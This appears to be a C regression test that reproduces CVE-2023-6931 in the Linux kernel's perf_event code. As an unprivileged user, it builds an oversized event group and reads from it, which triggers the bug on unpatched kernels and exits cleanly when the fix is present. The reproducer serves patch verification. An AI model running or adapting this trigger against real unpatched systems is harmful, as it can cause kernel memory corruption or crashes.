// SPDX-License-Identifier: GPL-2.0
/* CVE-2023-6931: see perf-group.patch. */
#include <err.h>
#include <errno.h>
#include <linux/perf_event.h>
#include <linux/types.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

#define ENTRY	(3 * sizeof(__u64))	/* count, id, lost of an event */

static int event(int leader, __u64 read_format)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(attr),
		.config = PERF_COUNT_SW_DUMMY,
		.read_format = read_format,
		.disabled = leader < 0,
		.exclude_kernel = 1,
	};

	return syscall(SYS_perf_event_open, &attr, 0, -1, leader, 0);
}

int main(void)
{
	struct rlimit files;
	__u64 values[4];
	size_t size;
	int leader, all;

	if (getrlimit(RLIMIT_NOFILE, &files))
		err(1, "getrlimit");
	files.rlim_cur = files.rlim_max;
	if (setrlimit(RLIMIT_NOFILE, &files))
		err(1, "setrlimit");
	if (setgid(65534) || setuid(65534))
		err(1, "setuid");

	leader = event(-1, 0);
	all = event(leader, PERF_FORMAT_GROUP | PERF_FORMAT_ID | PERF_FORMAT_LOST);
	if (leader < 0 || all < 0)
		err(1, "perf_event_open");

	/* Let what "all" reads, the number of events and their entries, need 17 bits. */
	for (size = sizeof(__u64) + 2 * ENTRY; size <= 0xffff; size += ENTRY) {
		if (event(leader, 0) < 0) {
			if (errno == E2BIG)
				return 0;	/* fixed */
			err(1, "perf_event_open");
		}
	}
	if (read(all, values, sizeof(values)) < 0)
		err(1, "read");
	return 0;
}
